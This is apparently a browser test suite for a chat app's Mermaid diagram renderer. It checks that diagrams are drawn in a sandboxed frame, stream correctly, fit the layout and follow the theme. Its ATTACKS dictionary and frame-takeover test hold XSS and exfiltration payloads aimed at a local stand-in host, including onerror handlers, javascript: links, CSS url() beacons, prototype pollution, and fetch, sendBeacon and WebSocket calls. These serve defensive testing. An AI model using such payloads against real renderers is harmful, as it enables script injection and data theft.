"""Diagrams are drawn in a frame that can reach nothing, whatever a model writes into them."""

import asyncio
import re
from collections.abc import AsyncIterator
from dataclasses import dataclass
from typing import Any

import pytest
import pytest_asyncio
from playwright.async_api import Frame, Locator, expect

from tests.support.browser import PHONE, Chat, Windows
from tests.support.people import People
from tests.support.server import ChatServer

pytestmark = [pytest.mark.browser, pytest.mark.process, pytest.mark.asyncio(loop_scope="session")]
GRAPH = "graph TD\n  A[Ask] --> B{Is it known?}\n  B -->|yes| C[Answer]\n  B -->|no| D[Say so]\n"
SEQUENCE = "sequenceDiagram\n  Ada->>Bob: How are you?\n  Bob-->>Ada: Well\n"
KINDS = [
    "classDiagram\n  Animal <|-- Duck\n  Animal : +int age\n",
    "stateDiagram-v2\n  [*] --> Still\n  Still --> [*]\n",
    "erDiagram\n  CUSTOMER ||--o{ ORDER : places\n",
    "gantt\n  title Plan\n  dateFormat YYYY-MM-DD\n  section A\n  One :a1, 2026-01-01, 30d\n",
    'pie title Pets\n  "Dogs" : 386\n  "Cats" : 85\n',
    "mindmap\n  root((mind))\n    one\n    two\n",
    "gitGraph\n  commit\n  branch dev\n  commit\n",
    "timeline\n  title When\n  2002 : one\n  2004 : two\n",
    'flowchart LR\n  A["one<br>two"] --> B["**bold** $$x^2$$"]\n',
]
# Each would open a dialog, ask for something elsewhere, leave the frame or change the page, if it were let.
ATTACKS = {
    "script": 'graph TD\n  A["<script>alert(1)</script>"] --> B["<img src=x onerror=alert(1)>"]\n',
    "click": (
        'graph TD\n  A --> B\n  click A "javascript:alert(1)"\n  click B href "ELSEWHERE/" _top\n'
        '  click A call alert("1")\n'
    ),
    "directive": (
        '%%{init: {"securityLevel": "loose", "htmlLabels": true, "flowchart": {"htmlLabels": true}, '
        '"themeCSS": "@import url(ELSEWHERE/s.css);", "secure": []}}%%\n'
        'graph TD\n  A["<iframe src=ELSEWHERE/></iframe><img src=x onerror=alert(1)>"] --> B\n'
        '  click A call alert("1")\n'
    ),
    "front matter": (
        "---\nconfig:\n  securityLevel: loose\n  htmlLabels: true\n  secure: []\n  theme: forest\n"
        '  fontFamily: "x; } * { background: url(ELSEWHERE/f.png) } a {"\n---\n'
        'graph TD\n  A["<img src=ELSEWHERE/p.png onerror=alert(1)>"] --> B\n'
    ),
    "beacons": (
        "graph TD\n  A --> B\n  style A fill:url(ELSEWHERE/a.svg)\n"
        "  classDef c background:url('ELSEWHERE/b.png')\n  class B c\n"
    ),
    "image": 'graph TD\n  A@{ img: "ELSEWHERE/p.png", label: "p" } --> B\n',
    "prototype": '%%{init: {"__proto__": {"polluted": 1}, "constructor": {"prototype": {"polluted": 1}}}}%%\n' + GRAPH,
}
HARMLESS = """() => ({
    scripts: document.querySelectorAll("#stage script, #stage iframe, #stage img, #stage foreignObject img").length,
    handlers: [...document.querySelectorAll("#stage *")].flatMap(one => one.getAttributeNames())
        .filter(name => name.startsWith("on")).length,
    links: [...document.querySelectorAll("#stage a")].map(one => one.getAttribute("href")
        ?? one.getAttribute("xlink:href")).filter(one => one && /^(javascript|data|vbscript):/i.test(one)).length,
    polluted: ({}).polluted === undefined,
})"""
SHIFT = """() => {
    window.shifted = 0;
    new PerformanceObserver(list => list.getEntries().forEach(one => {
        if (!one.hadRecentInput) window.shifted += one.value;
    })).observe({type: "layout-shift", buffered: false});
}"""


@dataclass
class Elsewhere:
    """Another server, which nobody may reach from here."""

    url: str = ""
    reached: int = 0

    def answer(self, _reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self.reached += 1
        writer.close()

    def forgive(self, chat: Chat) -> None:
        """A browser tells of what the policy refused, too; that it was never sent is seen here."""
        chat.watch.elsewhere = [address for address in chat.watch.elsewhere if not address.startswith(self.url)]
        chat.watch.excuse(r"Content Security Policy|[Ss]andbox|Unsafe attempt")


@pytest_asyncio.fixture(loop_scope="session")
async def elsewhere() -> AsyncIterator[Elsewhere]:
    found = Elsewhere()
    async with await asyncio.start_server(found.answer, "127.0.0.1", 0) as listening:
        found.url = f"http://127.0.0.1:{listening.sockets[0].getsockname()[1]}"
        yield found
        reached = found.reached
        _, writer = await asyncio.open_connection("127.0.0.1", int(found.url.rsplit(":", 1)[1]))
        writer.close()
        while found.reached == reached:
            await asyncio.sleep(0.01)
    assert reached == 0


async def test_a_diagram_is_drawn_when_its_fence_is_closed(chat: Chat) -> None:
    frame = await drawn(chat, f"Look:\n\n{fence(GRAPH)}\n\nThat was it.")
    await expect(frame.locator("#stage svg")).to_be_visible()
    await expect(frame.locator("#stage svg")).to_contain_text("Is it known?")
    diagram = chat.answer.get_by_role("figure", name="Diagram")
    await expect(diagram.locator("pre")).to_be_hidden()
    await chat.page.reload()
    await expect(diagram.locator("iframe.is-drawn")).to_be_visible()


async def test_every_kind_is_drawn(chat: Chat) -> None:
    await chat.ask("\n\n".join(map(fence, KINDS)), model="echo-3:latest")
    for number, kind in enumerate(KINDS):
        diagram = chat.answer.locator("mermaid-diagram").nth(number)
        await diagram.scroll_into_view_if_needed()
        await expect(diagram.locator("iframe.is-drawn")).to_be_visible()
        handle = await diagram.locator("iframe").element_handle()
        frame = await handle.content_frame()
        assert frame is not None
        assert await width(frame.locator("#stage > svg")) > 50, kind


async def test_while_it_streams_and_where_it_is_cut_it_is_code(chat: Chat) -> None:
    await chat.ask(f"Look:\n\n```mermaid\n{GRAPH}", model="echo-3:latest")
    await expect(chat.answer.locator(".code-block code")).to_contain_text("Is it known?")
    await asyncio.sleep(1)
    await expect(chat.answer.locator("mermaid-diagram, iframe")).to_have_count(0)
    assert not any("mermaid.js" in address.rsplit("/", 1)[-1] for address in chat.watch.asked)


async def test_its_source_is_shown_and_copied_and_nothing_moves(chat: Chat) -> None:
    await drawn(chat, f"{fence(GRAPH)}\n\nThat was it.")
    before = await below(chat)
    source = chat.answer.get_by_role("button", name="Source")
    await source.click()
    await expect(source).to_have_attribute("aria-pressed", "true")
    await expect(chat.answer.locator("pre")).to_be_visible()
    await expect(chat.answer.locator("iframe")).to_be_hidden()
    assert await below(chat) == before
    await source.press("Enter")
    await expect(chat.answer.locator("iframe")).to_be_visible()
    assert await below(chat) == before
    await chat.answer.get_by_role("button", name="Copy").first.click()
    await expect(chat.answer.locator(".code-copy")).to_have_text("Copied")


async def test_the_page_does_not_jump_when_a_thread_with_diagrams_opens(chat: Chat) -> None:
    await drawn(chat, f"{fence(GRAPH)}\n\nBetween.\n\n{fence(SEQUENCE)}\n\nThat was it.")
    await chat.page.add_init_script(f"({SHIFT})()")
    await chat.page.reload()
    await expect(chat.answer.locator("iframe.is-drawn").last).to_be_visible()
    await asyncio.sleep(0.3)
    assert await chat.page.evaluate("window.shifted") < 0.02


@pytest.mark.parametrize("name", ATTACKS)
async def test_no_attack_runs_or_asks_for_anything(chat: Chat, elsewhere: Elsewhere, name: str) -> None:
    text = f"{fence(ATTACKS[name].replace('ELSEWHERE', elsewhere.url))}\n\n{fence(SEQUENCE)}\n\nThat was it."
    await chat.ask(text, model="echo-3:latest")
    pages = len(chat.page.context.pages)
    diagrams = chat.answer.locator("mermaid-diagram")
    await expect(diagrams.last.locator("iframe.is-drawn")).to_be_visible()
    await expect(diagrams.first.locator("iframe.is-drawn, .diagram-note:not([hidden])")).to_be_visible()
    for frame in chat.page.frames[1:]:
        found = await frame.evaluate(HARMLESS)
        assert found == {"scripts": 0, "handlers": 0, "links": 0, "polluted": True}, (name, found)
        for node in await frame.locator("#stage .node, #stage a").all():
            await node.click(force=True, timeout=2000)
    await asyncio.sleep(0.3)
    assert {frame.url for frame in chat.page.frames[1:]} == {f"{chat.url}/diagram"}
    assert len(chat.page.context.pages) == pages
    assert not chat.watch.dialogs
    elsewhere.forgive(chat)


async def test_a_frame_that_is_taken_over_reaches_nothing(chat: Chat, elsewhere: Elsewhere) -> None:
    """Whatever ran in it, if something did: here we are what runs."""
    frame = await drawn(chat, f"{fence(GRAPH)}\n\nThat was it.")
    tries = """async (address) => {
        const tried = async (act) => { try { return await act(); } catch (fault) { return `no: ${fault.name}`; } };
        return {
            origin: origin,
            cookie: await tried(() => document.cookie),
            storage: await tried(() => localStorage.length),
            parent: await tried(() => parent.document.title),
            fetch: await tried(async () => (await fetch(address)).status),
            own: await tried(async () => (await fetch("/api/v1/me")).status),
            beacon: await tried(() => navigator.sendBeacon(address, "x") && "sent"),
            socket: await tried(() => new Promise(done => {
                const socket = new WebSocket(address.replace("http", "ws"));
                socket.onopen = () => done("open");
                socket.onerror = () => done("no: error");
            })),
            evaluated: await tried(() => (0, eval)("1 + 1")),
            top: await tried(() => { top.location = address; return "set"; }),
            popup: await tried(() => String(open(address))),
            image: await tried(() => new Promise(done => Object.assign(new Image(), {
                src: address + "p.png", onload: () => done("shown"), onerror: () => done("no: error")}))),
        };
    }"""
    found = await frame.evaluate(tries, f"{elsewhere.url}/")
    assert found["origin"] == "null"
    assert found["popup"] == "null"
    for name in ("cookie", "storage", "parent", "fetch", "own", "socket", "evaluated", "top", "image"):
        assert str(found[name]).startswith("no: "), (name, found)
    await frame.evaluate(f"location = '{elsewhere.url}/?secret'")
    await asyncio.sleep(0.5)
    assert chat.page.url.endswith(chat.thread_id)
    elsewhere.forgive(chat)


async def test_what_a_frame_says_is_a_size_or_a_text(chat: Chat) -> None:
    frame = await drawn(chat, f"{fence(GRAPH)}\n\nThat was it.")
    shape = "() => document.querySelector('assistant-message:last-of-type').querySelectorAll('*').length"
    before, height = await chat.page.evaluate(shape), await below(chat)
    for said in (
        "'<img src=x onerror=alert(1)>'",
        "{kind: 'ready'}",
        "{kind: 'drawn', turn: 1, width: 1e9, height: 1e9}",
        "{kind: 'drawn', turn: 1, width: '<b>', height: NaN}",
        "{kind: 'failed', turn: 7, reason: 'of another turn'}",
    ):
        await frame.evaluate(f"parent.postMessage({said}, '*')")
    await asyncio.sleep(0.3)
    assert await chat.page.evaluate(shape) == before
    assert await below(chat) == height
    await frame.evaluate("parent.postMessage({kind: 'failed', turn: 1, reason: '<img src=x onerror=alert(1)>'}, '*')")
    await expect(chat.answer.locator(".diagram-note")).to_contain_text("<img src=x")
    await expect(chat.answer.locator("img, iframe")).to_have_count(0)


async def test_nobody_else_speaks_for_a_frame_or_to_it(chat: Chat) -> None:
    frame = await drawn(chat, f"{fence(GRAPH)}\n\n{fence(SEQUENCE)}\n\nThat was it.")
    said = "{kind: 'failed', turn: 1, reason: 'forged'}"
    await chat.page.evaluate(f"postMessage({said}, '*')")
    # A neighbour may speak to the page, and be taken for nobody but itself; to another frame it is a stranger.
    other = chat.page.frames[-1]
    assert other is not frame
    draw = "{kind: 'draw', turn: 9, source: 'graph TD\\nX[forged]', longest: 99, dark: false}"
    await other.evaluate(f"for (let at = 0; at < parent.length; at += 1) parent[at].postMessage({draw}, '*')")
    await asyncio.sleep(0.5)
    await expect(chat.answer.locator(".diagram-note:visible")).to_have_count(0)
    await expect(frame.locator("#stage")).not_to_contain_text("forged")
    await expect(frame.locator("#stage")).to_contain_text("Is it known?")


async def test_what_is_no_diagram_stays_source_and_says_why(chat: Chat) -> None:
    wrong = "graph TD\n  A --> [<img src=x onerror=alert(1)>\n"
    await chat.ask(f"{fence(wrong)}\n\nThat was it.", model="echo-3:latest")
    note = chat.answer.locator(".diagram-note")
    await expect(note).to_contain_text("could not be drawn")
    await expect(chat.answer.locator("pre")).to_be_visible()
    await expect(chat.answer.locator("iframe, img")).to_have_count(0)
    await expect(chat.answer.get_by_role("button", name="Source")).to_have_count(0)


async def test_one_that_is_too_large_is_not_drawn(chat: Chat) -> None:
    await drawn(chat, f"{fence(GRAPH)}\n\nThat was it.")
    for source, said in (
        ("graph TD\n" + "".join(f"  N{number} --> N{number + 1}\n" for number in range(1500)), "too long"),
        ("graph TD\n" + "".join(f"  a --> b{number}\n" for number in range(400)), "could not be drawn"),
    ):
        # Thousands of pieces take long to come; what draws them is the same.
        await chat.page.evaluate(
            "text => document.querySelector('assistant-message > markdown-text').text = text", fence(source)
        )
        await expect(chat.answer.locator(".diagram-note")).to_contain_text(said)
        await expect(chat.answer.locator("iframe")).to_have_count(0)


async def test_a_frame_that_does_not_answer_is_taken_away(windows: Windows, server: ChatServer, people: People) -> None:
    chat = await windows.fresh(server, people["ada"])
    await chat.page.clock.install()
    endless = "while (true);"
    await chat.page.route(re.compile(r"diagram_frame.*\.js$"), lambda route: route.fulfill(body=endless))
    await chat.open()
    await chat.page.clock.resume()
    await chat.ask(f"{fence(GRAPH)}\n\nThat was it.", model="echo-3:latest")
    await expect(chat.answer.locator("iframe")).to_have_count(1)
    await chat.page.clock.fast_forward(21_000)
    await expect(chat.answer.locator(".diagram-note")).to_contain_text("took too long")
    await expect(chat.answer.locator("iframe")).to_have_count(0)
    await expect(chat.answer.locator("pre")).to_be_visible()


async def test_few_frames_live_at_once(chat: Chat) -> None:
    many = "\n\n".join(fence(f"graph TD\n  A{number} --> B\n") for number in range(14))
    await chat.ask(f"{many}\n\nThat was it.", model="echo-3:latest")
    diagrams = chat.answer.locator("mermaid-diagram")
    await expect(diagrams).to_have_count(14)
    await expect(diagrams.last.locator("iframe.is-drawn")).to_be_visible()
    for number in (0, 7, 13, 0):
        await diagrams.nth(number).scroll_into_view_if_needed()
        await expect(diagrams.nth(number).locator("iframe.is-drawn")).to_be_visible()
        assert await chat.answer.locator("iframe").count() <= 10


@pytest.mark.parametrize("size", [PHONE, (1440, 900)], ids=["phone", "desk"])
async def test_it_fits_is_enlarged_and_follows_the_theme(
    windows: Windows, server: ChatServer, people: People, size: tuple[int, int]
) -> None:
    chat = await windows.fresh(server, people["ada"], size=size, color_scheme="light")
    await chat.open()
    wide = "graph LR\n" + "".join(f"  N{number}[Number {number}] --> N{number + 1}\n" for number in range(12))
    frame = await drawn(chat, f"{fence(wide)}\n\nThat was it.")
    assert await chat.page.evaluate("document.documentElement.scrollWidth <= innerWidth")
    light = await frame.evaluate("getComputedStyle(document.body).backgroundColor")
    small = await width(frame.locator("svg"))
    await chat.answer.get_by_role("button", name="Full size").click()
    await chat.until(lambda: width(frame.locator("svg")), lambda now: now > small)
    assert await frame.locator("#stage").evaluate("one => one.scrollWidth > one.clientWidth")
    await chat.page.emulate_media(color_scheme="dark")
    await chat.until(
        lambda: frame.evaluate("getComputedStyle(document.body).backgroundColor"), lambda now: now != light
    )
    await expect(chat.answer.locator("iframe.is-drawn")).to_be_visible()


def fence(source: str) -> str:
    return f"```mermaid\n{source}```"


async def drawn(chat: Chat, text: str) -> Frame:
    """The frame of the answer's first diagram, when all are drawn."""
    await chat.ask(text, model="echo-3:latest")
    frames = chat.answer.locator("mermaid-diagram iframe.is-drawn")
    await expect(frames).to_have_count(text.count("```mermaid"))
    frame = await (await frames.first.element_handle()).content_frame()
    assert frame is not None
    return frame


async def below(chat: Chat) -> Any:
    """Where what comes after the diagrams stands."""
    return await chat.answer.locator("p:not(.diagram-note)").last.evaluate("one => one.getBoundingClientRect().top")


async def width(what: Locator) -> float:
    box = await what.bounding_box()
    return box["width"] if box else 0.0
